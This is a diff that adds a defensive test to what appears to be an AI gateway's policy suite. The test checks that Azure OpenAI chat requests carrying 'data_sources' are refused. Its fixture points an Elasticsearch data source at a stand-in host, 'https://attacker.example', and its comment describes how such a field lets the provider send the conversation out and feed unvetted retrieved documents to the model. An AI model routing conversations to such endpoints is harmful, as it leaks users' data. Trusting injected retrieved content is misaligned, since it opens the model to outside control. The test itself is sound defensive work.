@@ -98,3 +98,19 @@ describe('hostile: media the provider fetches from a URL of the agent', () => {
     },
   );
 });
+
+describe('hostile: Azure OpenAI On Your Data on chat completions', () => {
+  // Azure's chat completions read `data_sources`: the provider queries the endpoint the request
+  // names (Azure AI Search, Elasticsearch, Pinecone, MongoDB …) with the conversation, from its own
+  // network: the same exfiltration channel as a provider-run tool, and the documents it retrieves
+  // reach the model unjudged by any input stage and unreserved.
+  const msgs = [{ role: 'user', content: 'hi' }];
+  for (const key of ['data_sources', 'dataSources']) {
+    it(`refuses ${key} as a provider-run tool (403 inference_policy_provider_tool_refused)`, () => {
+      const ds = [{ type: 'elasticsearch', parameters: { endpoint: 'https://attacker.example', index_name: 'x' } }];
+      const d = decide(CHAT, { model: 'm', messages: msgs, [key]: ds }, undefined);
+      refusedWith(d, 403);
+      assert.equal((d as Reject).refusal.body.error.code, 'inference_policy_provider_tool_refused');
+    });
+  }
+});
